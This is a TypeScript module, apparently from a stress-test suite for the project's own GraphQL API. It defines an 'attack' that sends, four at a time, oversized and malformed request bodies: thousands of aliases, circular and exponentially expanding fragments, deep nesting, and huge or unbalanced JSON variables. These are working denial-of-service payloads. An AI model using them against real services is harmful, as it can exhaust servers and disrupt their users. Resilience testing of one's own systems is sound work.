/** Documents and variables as large, deep and twisted as anybody makes them. */
import type { Attack } from '../attack.ts';
import { asking, keepBusy, post, repeat } from '../target.ts';

/** With a variable as long as a body may be, which nothing in the document uses. */
const withVariable = (n: number, value: string) =>
  `{"query":"query Q${String(n)} { __typename }","variables":{"x":${value}}}`;

/** Bodies with something in them that changes with the number. */
const BODIES: readonly ((number: number) => string)[] = [
  (n) => asking(`{ ${repeat(2_000, (alias) => `a${String(alias)}_${String(n)}: __typename`)} }`),
  (n) => asking(`{ scenarioRun(id: "${'x'.repeat(100_000)}${String(n)}") { id } }`),
  (n) => asking(`{ scenarioRun(id: "${'x'.repeat(60_000)}${String(n)}") { id } }`),
  (n) => asking(`query Q${String(n)} { __typename ${'@include(if: true) '.repeat(500)} }`),
  (n) => asking(`query Q${String(n)} { ${'scenarioRuns { nodes { benchmarkRun { '.repeat(40)}`),
  (n) => asking(`query Q${String(n)} { ...F } fragment F on Query { ...G } fragment G on Query { ...F }`),
  (n) =>
    asking(
      `query Q${String(n)} { ...F0 } ${repeat(60, (f) => `fragment F${String(f)} on Query { ...F${String(f + 1)} ...F${String(f + 1)} }`)} fragment F60 on Query { __typename }`,
    ),
  (n) =>
    asking(
      `query Q${String(n)} { scenarioRuns { nodes { ${repeat(49, () => 'benchmarkRun { id name state }')} } } }`,
    ),
  (n) =>
    asking(
      `query Q${String(n)} { benchmarkRuns(first: 100) { nodes { scenarioRuns(first: 100) { nodes { id } } } } }`,
    ),
  (n) =>
    asking(
      `query Q${String(n)} { __schema { types { fields { type { fields { type { fields { name } } } } } } } }`,
    ),
  (n) => asking('{'.repeat(1_000 + (n % 1_000))),
  (n) => asking(`{a}${String(n)}`.repeat(100)),
  (n) => withVariable(n, `[${'{},'.repeat(80_000)}0]`),
  (n) => withVariable(n, `"${'x'.repeat(250_000)}"`),
  (n) => withVariable(n, '['.repeat(50_000 + (n % 1_000)) + ']'.repeat(50_000)),
  (n) => '['.repeat(250_000 + (n % 1_000)),
];

/**
 * The body to send: a third comes once, so that nothing is known of it, a third for the first time of two, and a third for the
 * second, so that all is remembered that can be.
 */
function bodyOf(sent: number): string {
  const round = Math.floor(sent / BODIES.length);
  return BODIES[sent % BODIES.length]?.(round % 3 === 2 ? round - 1 : round) ?? '';
}

export const attack: Attack = {
  sends: 'large, deep and twisted documents and variables, a third of them twice',
  strike: (target) => keepBusy(4, (sent) => post(target, bodyOf(sent))),
};
